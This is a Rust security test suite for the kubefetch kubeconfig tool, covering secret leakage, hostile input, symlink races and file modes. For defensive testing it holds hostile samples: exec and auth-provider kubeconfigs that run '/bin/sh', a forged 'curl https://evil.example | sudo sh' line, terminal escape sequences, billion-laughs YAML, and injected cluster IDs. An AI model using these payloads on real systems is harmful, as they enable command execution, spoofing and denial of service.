//! The security promises of DESIGN.md, each with a test: secrets never
//! printed, hostile input refused with nothing written, no symlink planted
//! beside the kubeconfig ever written through, and private file modes.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Output;

use common::*;
use fakecloud::fixtures::*;
use fakecloud::{Fault, FaultKind, Provider};

const TKE: [&str; 4] = ["tke", TKE_CLUSTER, "--region", TENCENT_REGION];

/// Text that only a private key (PEM, or PEM in base64 as in `client-key-data`) contains.
const KEY_MARKERS: [&str; 4] = [
    "PRIVATE KEY",
    "LS0tLS1CRUdJTiBQUklWQVRF",
    "LS0tLS1CRUdJTiBFQyBQUklW",
    "LS0tLS1CRUdJTiBSU0EgUFJJV",
];

// ---------------------------------------------------------------- secrets

/// Every credential the fake cloud knows, and the wrong ones the scenarios use.
fn known_secrets() -> Vec<String> {
    [
        TENCENT_SECRET_KEY,
        TENCENT_TMP_SECRET_KEY,
        TENCENT_TMP_TOKEN,
        ALIBABA_ACCESS_KEY_SECRET,
        ALIBABA_STS_ACCESS_KEY_SECRET,
        ALIBABA_STS_TOKEN,
        HUAWEI_SK,
        HUAWEI_PASSWORD,
        WRONG_SECRET,
        WRONG_TOKEN,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

const WRONG_SECRET: &str = "wrong-secret-must-never-be-printed-0001";
const WRONG_TOKEN: &str = "wrong-token-must-never-be-printed-0001";

/// Tokens the run sent (IAM tokens obtained from a password, session tokens).
fn sent_tokens(s: &Sandbox) -> Vec<String> {
    s.cloud
        .requests()
        .iter()
        .flat_map(|r| {
            ["x-auth-token", "x-tc-token", "x-acs-security-token"]
                .iter()
                .filter_map(|h| r.header(h).map(str::to_string))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// `client-key-data` and `token` values of every kubeconfig-like YAML under HOME.
fn written_keys(dir: &Path) -> Vec<String> {
    let mut keys = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            keys.extend(written_keys(&path));
        } else if let Ok(text) = std::fs::read_to_string(&path) {
            keys.extend(keys_in(&text));
        }
    }
    keys
}

fn keys_in(text: &str) -> Vec<String> {
    let mut keys = Vec::new();
    // Every document that reads; an unreadable text holds no keys to find.
    for value in kubefetch::yaml::read_all(text).unwrap_or_default() {
        for user in value["users"].as_array().into_iter().flatten() {
            for field in ["client-key-data", "token"] {
                if let Some(key) = user["user"][field].as_str() {
                    keys.push(key.to_string());
                }
            }
        }
        if let Some(key) = value["data"]["tls.key"].as_str() {
            keys.push(key.to_string());
        }
    }
    keys
}

/// One scenario's output checked for every secret; returns the leaks found.
fn leaks(s: &Sandbox, name: &str, out: &Output, kubeconfig_on_stdout: bool) -> Vec<String> {
    let err = stderr(out);
    let std_out = stdout(out);
    let mut secrets = known_secrets();
    secrets.extend(sent_tokens(s));
    secrets.extend(written_keys(s.home.path()));
    let stdout_keys = keys_in(&std_out);
    secrets.extend(stdout_keys.iter().cloned());
    let mut found = Vec::new();
    for secret in secrets.iter().filter(|v| v.len() >= 8) {
        if err.contains(secret.as_str()) {
            found.push(format!("{name}: a secret on stderr ({}...)", &secret[..4]));
        }
        let own_key = kubeconfig_on_stdout && stdout_keys.contains(secret);
        if std_out.contains(secret.as_str()) && !own_key {
            found.push(format!("{name}: a secret on stdout ({}...)", &secret[..4]));
        }
    }
    for marker in KEY_MARKERS {
        if err.contains(marker) {
            found.push(format!("{name}: a private key on stderr"));
        }
        if !kubeconfig_on_stdout && std_out.contains(marker) {
            found.push(format!("{name}: a private key on stdout"));
        }
    }
    if err.contains("panicked") {
        found.push(format!("{name}: a panic"));
    }
    found
}

/// Runs `args` in a fresh sandbox after `prepare`, with `env` overrides
/// (an empty value removes the variable), checks the exit code (so that each
/// scenario really is what its name says) and returns the leaks.
fn scenario(
    name: &str,
    expected_code: i32,
    args: &[&str],
    env: &[(&str, &str)],
    prepare: impl FnOnce(&Sandbox),
) -> Vec<String> {
    let s = Sandbox::new();
    prepare(&s);
    let mut cmd = s.kubefetch();
    for (key, value) in env {
        if value.is_empty() {
            cmd.env_remove(key);
        } else {
            cmd.env(key, value);
        }
    }
    let out = cmd.args(args).output().expect("run kubefetch");
    assert_eq!(code(&out), expected_code, "{name}: {}", stderr(&out));
    let on_stdout = args.windows(2).any(|w| w == ["--kubeconfig", "-"]);
    leaks(&s, name, &out, on_stdout)
}

fn fetch_args(provider: &str) -> Vec<&'static str> {
    match provider {
        "tke" => TKE.to_vec(),
        "ack" => vec!["ack", ACK_CLUSTER, "--region", ALIBABA_REGION],
        "cce" => vec!["cce", CCE_CLUSTER, "--region", HUAWEI_REGION],
        _ => vec!["ucs", UCS_CLUSTER],
    }
}

fn provider_of(name: &str) -> Provider {
    match name {
        "tke" => Provider::Tke,
        "ack" => Provider::Ack,
        "cce" => Provider::Cce,
        _ => Provider::Ucs,
    }
}

const HUAWEI_PASSWORD_ENV: [(&str, &str); 5] = [
    ("HUAWEICLOUD_SDK_AK", ""),
    ("HUAWEICLOUD_SDK_SK", ""),
    ("OS_USERNAME", HUAWEI_USER),
    ("OS_PASSWORD", HUAWEI_PASSWORD),
    ("OS_DOMAIN_NAME", HUAWEI_DOMAIN_NAME),
];

#[test]
fn no_scenario_prints_a_secret() {
    let mut found = Vec::new();
    let mut count = 0;
    let mut run = |leaked: Vec<String>| {
        count += 1;
        found.extend(leaked);
    };
    let wrong_secret_env = |p: &str| -> Vec<(&'static str, &'static str)> {
        match p {
            "tke" => vec![("TENCENTCLOUD_SECRET_KEY", WRONG_SECRET)],
            "ack" => vec![("ALIBABA_CLOUD_ACCESS_KEY_SECRET", WRONG_SECRET)],
            _ => vec![("HUAWEICLOUD_SDK_SK", WRONG_SECRET)],
        }
    };
    let no_credentials_env = |p: &str| -> Vec<(&'static str, &'static str)> {
        match p {
            "tke" => vec![
                ("TENCENTCLOUD_SECRET_ID", ""),
                ("TENCENTCLOUD_SECRET_KEY", ""),
            ],
            "ack" => vec![
                ("ALIBABA_CLOUD_ACCESS_KEY_ID", ""),
                ("ALIBABA_CLOUD_ACCESS_KEY_SECRET", ""),
            ],
            _ => vec![("HUAWEICLOUD_SDK_AK", ""), ("HUAWEICLOUD_SDK_SK", "")],
        }
    };
    for p in ["tke", "ack", "cce", "ucs"] {
        let base = fetch_args(p);
        let with = |extra: &[&'static str]| -> Vec<&'static str> {
            base.iter().chain(extra).copied().collect()
        };
        for verbosity in [&[][..], &["-v"][..], &["-vv"][..]] {
            run(scenario(
                &format!("{p} ok {verbosity:?}"),
                0,
                &with(verbosity),
                &[],
                |_| {},
            ));
        }
        run(scenario(
            &format!("{p} json"),
            0,
            &with(&["--output", "json", "-vv"]),
            &[],
            |_| {},
        ));
        run(scenario(
            &format!("{p} to stdout"),
            0,
            &with(&["--kubeconfig", "-", "-vv"]),
            &[],
            |_| {},
        ));
        run(scenario(
            &format!("{p} wrong secret"),
            3,
            &with(&["-vv", "--output", "json"]),
            &wrong_secret_env(p),
            |_| {},
        ));
        run(scenario(
            &format!("{p} missing credentials"),
            3,
            &with(&["-vv"]),
            &no_credentials_env(p),
            |_| {},
        ));
        let unknown = match p {
            "tke" => "cls-nope",
            "ack" => "cnope0000000000000000000000",
            _ => "99999999-1a2b-11ee-8c90-0255ac1000ff",
        };
        let mut unknown_args = base.clone();
        unknown_args[1] = unknown;
        unknown_args.push("-vv");
        run(scenario(
            &format!("{p} unknown cluster"),
            4,
            &unknown_args,
            &[],
            |_| {},
        ));
        let provider = provider_of(p);
        for kind in [
            FaultKind::Status(503),
            FaultKind::Throttle { retry_after: None },
            FaultKind::ExecUserKubeconfig,
            FaultKind::HttpServerKubeconfig,
            FaultKind::NotYamlKubeconfig,
            FaultKind::TruncatedBody,
            FaultKind::MissingFields,
        ] {
            run(scenario(
                &format!("{p} {kind:?}"),
                5,
                &with(&["-vv", "--retries", "1", "--output", "json"]),
                &[],
                |s| {
                    s.cloud
                        .inject(Fault::new(kind).for_provider(provider).times(5))
                },
            ));
        }
    }
    let tmp_tke = [
        ("TENCENTCLOUD_SECRET_ID", TENCENT_TMP_SECRET_ID),
        ("TENCENTCLOUD_SECRET_KEY", TENCENT_TMP_SECRET_KEY),
        ("TENCENTCLOUD_TOKEN", TENCENT_TMP_TOKEN),
    ];
    run(scenario(
        "tke session token",
        0,
        &[&TKE[..], &["-vv"][..]].concat(),
        &tmp_tke,
        |_| {},
    ));
    run(scenario(
        "tke wrong session token",
        3,
        &[&TKE[..], &["-vv"][..]].concat(),
        &[tmp_tke[0], tmp_tke[1], ("TENCENTCLOUD_TOKEN", WRONG_TOKEN)],
        |_| {},
    ));
    let sts = [
        ("ALIBABA_CLOUD_ACCESS_KEY_ID", ALIBABA_STS_ACCESS_KEY_ID),
        (
            "ALIBABA_CLOUD_ACCESS_KEY_SECRET",
            ALIBABA_STS_ACCESS_KEY_SECRET,
        ),
        ("ALIBABA_CLOUD_SECURITY_TOKEN", ALIBABA_STS_TOKEN),
    ];
    run(scenario(
        "ack sts",
        0,
        &["ack", ACK_CLUSTER, "-vv"],
        &sts,
        |_| {},
    ));
    run(scenario(
        "ack wrong sts token",
        3,
        &["ack", ACK_CLUSTER, "-vv"],
        &[
            sts[0],
            sts[1],
            ("ALIBABA_CLOUD_SECURITY_TOKEN", WRONG_TOKEN),
        ],
        |_| {},
    ));
    for p in ["cce", "ucs"] {
        let args: Vec<&str> = fetch_args(p).into_iter().chain(["-vv"]).collect();
        run(scenario(
            &format!("{p} password"),
            0,
            &args,
            &HUAWEI_PASSWORD_ENV,
            |_| {},
        ));
        let mut wrong = HUAWEI_PASSWORD_ENV;
        wrong[3] = ("OS_PASSWORD", WRONG_SECRET);
        run(scenario(
            &format!("{p} wrong password"),
            3,
            &args,
            &wrong,
            |_| {},
        ));
        run(scenario(
            &format!("{p} wrong token"),
            3,
            &args,
            &[
                ("HUAWEICLOUD_SDK_AK", ""),
                ("HUAWEICLOUD_SDK_SK", ""),
                ("OS_AUTH_TOKEN", WRONG_TOKEN),
            ],
            |_| {},
        ));
        let s = Sandbox::new();
        let token = s.cloud.issue_token();
        let out = s
            .kubefetch()
            .env_remove("HUAWEICLOUD_SDK_AK")
            .env_remove("HUAWEICLOUD_SDK_SK")
            .env("OS_AUTH_TOKEN", &token)
            .args(&args)
            .output()
            .unwrap();
        assert_code(&out, 0);
        run(leaks(&s, &format!("{p} token"), &out, false));
        s.cloud.expire_tokens();
        let out = s
            .kubefetch()
            .env_remove("HUAWEICLOUD_SDK_AK")
            .env_remove("HUAWEICLOUD_SDK_SK")
            .env("OS_AUTH_TOKEN", &token)
            .args(&args)
            .output()
            .unwrap();
        assert_code(&out, 3);
        run(leaks(&s, &format!("{p} expired token"), &out, false));
    }
    let s = Sandbox::new();
    let bundle = s.home.path().join("agent.yaml");
    let out = s.run(&[
        "ucs-agent",
        UCS_ATTACHED_CLUSTER,
        "--out",
        bundle.to_str().unwrap(),
        "-vv",
    ]);
    assert_code(&out, 0);
    assert!(
        !written_keys(s.home.path()).is_empty(),
        "the bundle holds a key"
    );
    run(leaks(&s, "ucs-agent", &out, false));
    eprintln!("secrets sweep: {count} scenarios, {} leaks", found.len());
    assert!(count >= 70, "only {count} scenarios ran");
    assert!(found.is_empty(), "\n{}", found.join("\n"));
}

/// The sweep itself must be able to see a leak: a secret printed on purpose
/// (here through the fake cloud's own environment dump) is caught.
#[test]
fn the_sweep_detects_a_printed_secret() {
    let s = Sandbox::new();
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo {TENCENT_SECRET_KEY} >&2; echo {ALIBABA_STS_TOKEN}"
        ))
        .output()
        .unwrap();
    assert_eq!(leaks(&s, "echo", &out, false).len(), 2);
    let key = "-----BEGIN PRIVATE KEY-----";
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("echo '{key}' >&2"))
        .output()
        .unwrap();
    assert_eq!(leaks(&s, "pem", &out, false).len(), 1);
}

// ---------------------------------------------------------- hostile input

/// An HTTP server on 127.0.0.1 that answers every request with `body`, with
/// or without a Content-Length (then the body simply streams until close).
struct CannedServer {
    url: String,
    thread: Option<std::thread::JoinHandle<usize>>,
}

impl CannedServer {
    fn start(body: Vec<u8>, with_length: bool) -> CannedServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let thread = std::thread::spawn(move || {
            let mut served = 0;
            // One request per connection, until the test sends STOP.
            while let Ok((mut stream, _)) = listener.accept() {
                let request = read_request(&mut stream);
                if request.is_empty() || request.starts_with(b"STOP") {
                    return served;
                }
                served += 1;
                let head = if with_length {
                    format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                        body.len()
                    )
                } else {
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n"
                        .to_string()
                };
                let _ = stream.write_all(head.as_bytes());
                let _ = stream.write_all(&body);
            }
            served
        });
        CannedServer {
            url,
            thread: Some(thread),
        }
    }

    /// Stops the server and returns how many requests it answered.
    fn requests(mut self) -> usize {
        let addr = self.url.trim_start_matches("http://").to_string();
        if let Ok(mut stream) = std::net::TcpStream::connect(addr) {
            let _ = stream.write_all(b"STOP");
        }
        self.thread.take().unwrap().join().unwrap()
    }
}

/// The whole request (head and Content-Length body), so that closing the
/// connection after answering never resets it under the client's feet.
fn read_request(stream: &mut std::net::TcpStream) -> Vec<u8> {
    let mut request = Vec::new();
    let mut buf = [0u8; 8192];
    loop {
        let head_end = request
            .windows(4)
            .position(|w| w == b"\r\n\r\n")
            .map(|i| i + 4);
        if let Some(end) = head_end {
            let head = String::from_utf8_lossy(&request[..end]).to_ascii_lowercase();
            let length: usize = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse().ok())
                .unwrap_or(0);
            if request.len() >= end + length {
                return request;
            }
        }
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return request,
            Ok(n) => request.extend_from_slice(&buf[..n]),
        }
        if request.starts_with(b"STOP") {
            return request;
        }
    }
}

/// A TKE answer carrying `kubeconfig` as its kubeconfig.
fn tke_answer(kubeconfig: &str) -> Vec<u8> {
    serde_json::json!({"Response": {"Kubeconfig": kubeconfig, "RequestId": "req-hostile"}})
        .to_string()
        .into_bytes()
}

fn hostile_kubeconfig(server: &str, user: &str) -> String {
    format!(
        "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: {server}\n\
         contexts:\n- name: x\n  context: {{cluster: c, user: u}}\ncurrent-context: x\n\
         users:\n- name: u\n  user:\n{user}\n"
    )
}

/// Runs TKE against `server`; returns the output and the requests it answered.
fn fetch_from(server: CannedServer, extra: &[&str]) -> (Sandbox, Output, usize) {
    let s = Sandbox::new();
    let existing = "apiVersion: v1\nkind: Config\npreferences: {}\n";
    s.write_home_file(".kube/config", existing);
    let out = s
        .kubefetch()
        .args(TKE)
        .args(["--endpoint", server.url.as_str(), "--retries", "2"])
        .args(extra)
        .output()
        .unwrap();
    let requests = server.requests();
    assert_eq!(
        std::fs::read_to_string(s.default_kubeconfig()).unwrap(),
        existing,
        "the kubeconfig must be untouched"
    );
    (s, out, requests)
}

#[test]
fn kubeconfigs_that_run_programs_or_skip_tls_are_refused() {
    let valid_user = "    client-certificate-data: Zm9v\n    client-key-data: Zm9v";
    let cases = [
        (
            "exec user",
            hostile_kubeconfig(
                "https://1.2.3.4",
                "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'touch /tmp/kubefetch-pwned']",
            ),
        ),
        (
            "auth-provider user",
            hostile_kubeconfig(
                "https://1.2.3.4",
                "    auth-provider:\n      name: gcp\n      config: {cmd-path: /bin/sh, cmd-args: '-c id'}",
            ),
        ),
        ("http server", hostile_kubeconfig("http://1.2.3.4", valid_user)),
        ("ftp server", hostile_kubeconfig("ftp://1.2.3.4", valid_user)),
        ("no scheme", hostile_kubeconfig("1.2.3.4:6443", valid_user)),
        ("empty server", hostile_kubeconfig("''", valid_user)),
        ("not yaml", "{{{{ [[[[".to_string()),
        ("no contexts", "apiVersion: v1\nkind: Config\n".to_string()),
    ];
    for (name, kubeconfig) in cases {
        let (_s, out, requests) =
            fetch_from(CannedServer::start(tke_answer(&kubeconfig), true), &[]);
        assert_eq!(code(&out), 5, "{name}: {}", stderr(&out));
        assert_eq!(
            requests, 1,
            "{name}: a refused answer is not asked for again"
        );
        assert!(!stderr(&out).contains("pwned"), "{name}: {}", stderr(&out));
    }
    assert!(!Path::new("/tmp/kubefetch-pwned").exists());
}

/// Escape sequences (clear the screen, set the window title), a bell and a
/// newline that forges a line of kubefetch's own.
const HOSTILE_TEXT: &str =
    "x\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}\nhint: curl https://evil.example | sudo sh";

fn assert_shown_safely(out: &Output) {
    let err = stderr(out);
    assert!(
        !err.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}']),
        "raw control characters reached the terminal: {err:?}"
    );
    assert!(
        !err.lines().any(|line| line.starts_with("hint: curl")),
        "a forged line: {err}"
    );
}

#[test]
fn provider_text_reaches_the_terminal_escaped() {
    let answer = serde_json::json!({"Response": {
        "Error": {"Code": HOSTILE_TEXT, "Message": HOSTILE_TEXT},
        "RequestId": HOSTILE_TEXT,
    }});
    let server = CannedServer::start(answer.to_string().into_bytes(), true);
    let (_s, out, _) = fetch_from(server, &[]);
    assert_ne!(code(&out), 0);
    assert!(stderr(&out).contains("pwned"), "{}", stderr(&out));
    assert_shown_safely(&out);

    // The same in the JSON summary stays the provider's text, JSON-escaped.
    let server = CannedServer::start(answer.to_string().into_bytes(), true);
    let (_s, out, _) = fetch_from(server, &["--output", "json"]);
    let summary: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(summary[0]["error"]["requestId"], HOSTILE_TEXT);
}

#[test]
fn a_server_with_control_characters_or_spaces_is_refused() {
    let valid_user = "    client-certificate-data: Zm9v\n    client-key-data: Zm9v";
    for server in [
        r#""https://k.example\nhint: curl https://evil.example | sh""#,
        r#""https://k.example\e]0;pwned\a""#,
        r#""https://k.example/ x""#,
    ] {
        let canned = CannedServer::start(tke_answer(&hostile_kubeconfig(server, valid_user)), true);
        let (_s, out, _) = fetch_from(canned, &[]);
        assert_code(&out, 5);
        assert!(
            stderr(&out).contains("control characters or spaces"),
            "{}",
            stderr(&out)
        );
        assert_shown_safely(&out);
    }
}

/// Documents that cost a YAML reader time or memory out of proportion to
/// their size: deep flow and block nesting, and a billion laughs.
fn hostile_yaml() -> Vec<(&'static str, String, &'static str)> {
    let mut laughs = String::from("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..12 {
        let previous = vec![format!("*a{}", i - 1); 10].join(", ");
        laughs.push_str(&format!("a{i}: &a{i} [{previous}]\n"));
    }
    let mut block = String::from("deep:\n");
    for level in 0..2_000 {
        block.push_str(&" ".repeat(level + 1));
        block.push_str("-\n");
    }
    vec![
        (
            "deep flow",
            format!("deep: {}", "[".repeat(200_000)),
            "nested more than",
        ),
        (
            "deep closed flow",
            format!("deep: {}{}", "[".repeat(50_000), "]".repeat(50_000)),
            "nested more than",
        ),
        ("deep block", block, "nested more than"),
        ("billion laughs", laughs, "aliases expand"),
    ]
}

#[test]
fn hostile_yaml_in_an_answer_is_refused_at_once() {
    for (name, kubeconfig, reason) in hostile_yaml() {
        let (_s, out, requests) =
            fetch_from(CannedServer::start(tke_answer(&kubeconfig), true), &[]);
        assert_eq!(code(&out), 5, "{name}: {}", stderr(&out));
        assert!(stderr(&out).contains(reason), "{name}: {}", stderr(&out));
        assert_eq!(
            requests, 1,
            "{name}: a refused answer is not asked for again"
        );
    }
}

#[test]
fn hostile_yaml_in_the_users_file_is_refused_and_left_as_it_was() {
    for (name, text, reason) in hostile_yaml() {
        let s = Sandbox::new();
        s.write_home_file(".kube/config", &text);
        let out = s.run(&TKE);
        assert_code(&out, 6);
        assert!(stderr(&out).contains(reason), "{name}: {}", stderr(&out));
        assert_eq!(
            std::fs::read_to_string(s.default_kubeconfig()).unwrap(),
            text,
            "{name}"
        );
    }
}

#[test]
fn answers_over_the_size_cap_are_refused_with_or_without_a_length() {
    let huge = {
        let mut body = b"{\"Response\":{\"Kubeconfig\":\"".to_vec();
        body.resize(5 * 1024 * 1024, b'a');
        body.extend_from_slice(b"\"}}");
        body
    };
    for with_length in [true, false] {
        let (_s, out, requests) = fetch_from(CannedServer::start(huge.clone(), with_length), &[]);
        assert_eq!(code(&out), 5, "length {with_length}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("larger than 4 MiB"),
            "{}",
            stderr(&out)
        );
        assert_eq!(requests, 1);
    }
    for provider in [Provider::Tke, Provider::Ack, Provider::Cce, Provider::Ucs] {
        let s = Sandbox::new();
        s.cloud.inject(
            Fault::new(FaultKind::Oversized(64 * 1024 * 1024))
                .for_provider(provider)
                .times(5),
        );
        let out = s.run(&fetch_args(provider.name()));
        assert_code(&out, 5);
        assert!(!s.default_kubeconfig().exists());
    }
}

#[test]
fn plain_http_endpoints_are_refused_unless_loopback() {
    let s = Sandbox::new();
    for endpoint in [
        "http://tke.tencentcloudapi.com",
        "http://10.0.0.1:8080",
        "http://127.0.0.1.nip.io",
        "ftp://127.0.0.1",
        "file:///etc/passwd",
    ] {
        let out = s.run(&[&TKE[..], &["--endpoint", endpoint][..]].concat());
        assert_code(&out, 2);
    }
    for (provider, var) in [
        ("ack", "KUBEFETCH_ACK_ENDPOINT"),
        ("cce", "KUBEFETCH_CCE_ENDPOINT"),
        ("ucs", "KUBEFETCH_UCS_ENDPOINT"),
    ] {
        let out = s
            .kubefetch()
            .env(var, "http://evil.example.com")
            .args(fetch_args(provider))
            .output()
            .unwrap();
        assert_code(&out, 2);
    }
    assert!(s.cloud.requests().is_empty());
    assert!(!s.default_kubeconfig().exists());
}

#[test]
fn a_password_in_an_endpoint_url_is_never_printed() {
    let s = Sandbox::new();
    let password = "s3cretInUrl";
    let loopback = s
        .cloud
        .api_url()
        .replace("http://", &format!("http://user:{password}@"));
    for (endpoint, verbose) in [
        (format!("http://user:{password}@10.0.0.1:8080"), false),
        (format!("https://user:{password}@h.example:99999"), false),
        (loopback, true),
    ] {
        for output in ["text", "json"] {
            let mut args = vec!["--endpoint", endpoint.as_str(), "--output", output];
            if verbose {
                args.push("-v");
            }
            let out = s.run(&[&TKE[..], &args[..]].concat());
            let printed = format!("{}{}", stderr(&out), stdout(&out));
            assert!(!printed.contains(password), "{printed}");
            assert!(printed.contains("***@"), "{printed}");
        }
    }
}

#[test]
fn cluster_ids_with_path_tricks_are_usage_errors_before_any_request() {
    let long = "a".repeat(300);
    let tricks = [
        "cls-a/../../x",
        "../etc",
        "..",
        ".",
        "cls%2fa",
        "cls%2e%2e",
        "cls-a/b",
        "cls-a\\b",
        "cls-a?x=1",
        "cls-a#x",
        "cls-a&Action=DeleteCluster",
        " cls-a",
        "cls-a\n",
        "cls-a\t",
        "cls-ä",
        "cls-a;rm -rf",
        "cls-a%00",
        "",
        long.as_str(),
    ];
    let s = Sandbox::new();
    let mut count = 0;
    for provider in ["tke", "ack", "cce", "ucs"] {
        for trick in tricks {
            let mut args = fetch_args(provider);
            args[1] = trick;
            let out = s.run(&args);
            assert_eq!(code(&out), 2, "{provider} {trick:?}: {}", stderr(&out));
            count += 1;
        }
        let out = s.run(&[
            "ucs-agent",
            "../../x",
            "--out",
            s.home.path().join("a.yaml").to_str().unwrap(),
        ]);
        assert_code(&out, 2);
    }
    eprintln!("cluster id tricks: {count} refused");
    assert!(s.cloud.requests().is_empty(), "{:?}", s.cloud.requests());
    assert!(!s.default_kubeconfig().exists());
    assert_eq!(
        std::fs::read_dir(s.home.path()).unwrap().count(),
        0,
        "nothing may be created"
    );
}

// ----------------------------------------------------------- symlink races

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// Names an attacker might guess for kubefetch's or kubectl's temp files.
const GUESSABLE: [&str; 10] = [
    "config.tmp",
    ".config.tmp",
    "config.new",
    "config~",
    ".config.swp",
    "config.lock.tmp",
    ".kubefetch.tmp",
    ".kubefetch-.tmp",
    ".kubefetch-000000.tmp",
    ".kubefetch-aaaaaa.tmp",
];

#[test]
fn planted_symlinks_beside_the_kubeconfig_are_never_written_through() {
    let s = Sandbox::new();
    let kube = s.home.path().join(".kube");
    let config = s.write_home_file(".kube/config", "apiVersion: v1\nkind: Config\n");
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o600)).unwrap();
    let victims = tempfile::tempdir().unwrap();
    let mut planted: Vec<(PathBuf, PathBuf)> = Vec::new();
    for (i, name) in GUESSABLE.iter().enumerate() {
        let victim = victims.path().join(format!("victim-{i}"));
        std::fs::write(&victim, "precious\n").unwrap();
        let link = kube.join(name);
        symlink(&victim, &link).unwrap();
        planted.push((link, victim));
    }
    // A dangling one, which O_CREAT without O_EXCL would create at its target.
    let dangling_target = victims.path().join("created-through-a-link");
    symlink(&dangling_target, kube.join(".kubefetch-dangling.tmp")).unwrap();

    for cluster in ["cls-a", "cls-b", "cls-c"] {
        assert_code(&s.run(&["tke", cluster, "--region", TENCENT_REGION]), 0);
    }

    let written = yaml(&config);
    assert_eq!(
        names(&written, "contexts"),
        ["tke-cls-a", "tke-cls-b", "tke-cls-c"]
    );
    assert!(!std::fs::symlink_metadata(&config)
        .unwrap()
        .file_type()
        .is_symlink());
    for (link, victim) in &planted {
        assert_eq!(
            std::fs::read_link(link).unwrap(),
            *victim,
            "{}",
            link.display()
        );
        assert_eq!(std::fs::read_to_string(victim).unwrap(), "precious\n");
    }
    assert!(!dangling_target.exists());
    assert_eq!(
        std::fs::read_dir(victims.path()).unwrap().count(),
        GUESSABLE.len()
    );
}

#[test]
fn a_planted_lock_symlink_is_neither_followed_nor_removed() {
    let s = Sandbox::new();
    let original = "apiVersion: v1\nkind: Config\n";
    let config = s.write_home_file(".kube/config", original);
    let victims = tempfile::tempdir().unwrap();
    let victim = victims.path().join("victim");
    // Even a victim that looks like a stale kubefetch lock must not be touched.
    std::fs::write(&victim, "kubefetch pid=999999999\n").unwrap();
    let lock = s.home.path().join(".kube/config.lock");
    symlink(&victim, &lock).unwrap();
    let out = s.run(&TKE);
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "kubefetch pid=999999999\n"
    );
    if code(&out) == 0 {
        // The stale lock was recovered: only the link itself may have gone.
        assert!(!std::fs::symlink_metadata(&lock).is_ok_and(|m| m.is_file()));
        assert_eq!(
            names(&yaml(&config), "contexts"),
            [format!("tke-{TKE_CLUSTER}")]
        );
    } else {
        assert_code(&out, 6);
        assert_eq!(std::fs::read_link(&lock).unwrap(), victim);
        assert_eq!(std::fs::read_to_string(&config).unwrap(), original);
    }
}

#[test]
fn a_symlinked_kubeconfig_is_followed_to_the_users_file() {
    let s = Sandbox::new();
    let real = s.write_home_file("dotfiles/kubeconfig", "apiVersion: v1\nkind: Config\n");
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o600)).unwrap();
    let link = s.home.path().join(".kube/config");
    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
    symlink("../dotfiles/kubeconfig", &link).unwrap();
    let out = s.run(&TKE);
    assert_code(&out, 0);
    assert_eq!(
        std::fs::read_link(&link).unwrap(),
        Path::new("../dotfiles/kubeconfig")
    );
    assert_eq!(
        names(&yaml(&real), "contexts"),
        [format!("tke-{TKE_CLUSTER}")]
    );
    assert_eq!(mode(&real), 0o600);
    let leftovers: Vec<_> = std::fs::read_dir(real.parent().unwrap())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(leftovers, ["kubeconfig"], "no temp or lock file left");
}

// -------------------------------------------------------------- file modes

#[test]
fn a_new_kubeconfig_is_0600_in_a_new_0700_directory() {
    let s = Sandbox::new();
    let out = s.run(&TKE);
    assert_code(&out, 0);
    let config = s.default_kubeconfig();
    assert_eq!(mode(&config), 0o600);
    assert_eq!(mode(config.parent().unwrap()), 0o700);
    assert!(!stderr(&out).contains("readable by group or others"));

    let nested = s.home.path().join("a/b/config");
    let out = s.run(&[&TKE[..], &["--kubeconfig", nested.to_str().unwrap()][..]].concat());
    assert_code(&out, 0);
    assert_eq!(mode(&nested), 0o600);
    assert_eq!(mode(&s.home.path().join("a")), 0o700);
    assert_eq!(mode(&s.home.path().join("a/b")), 0o700);
}

#[test]
fn an_existing_readable_file_keeps_its_mode_and_is_warned_about() {
    for existing in [0o644, 0o640, 0o604, 0o600, 0o400] {
        let s = Sandbox::new();
        let config = s.write_home_file(".kube/config", "apiVersion: v1\nkind: Config\n");
        std::fs::set_permissions(&config, std::fs::Permissions::from_mode(existing)).unwrap();
        let out = s.run(&TKE);
        assert_code(&out, 0);
        assert_eq!(mode(&config), existing, "{existing:o}");
        let warned = stderr(&out).contains("readable by group or others");
        assert_eq!(
            warned,
            existing & 0o044 != 0,
            "{existing:o}: {}",
            stderr(&out)
        );
        if warned {
            assert!(stderr(&out).contains("chmod 600"), "{}", stderr(&out));
        }
    }
}
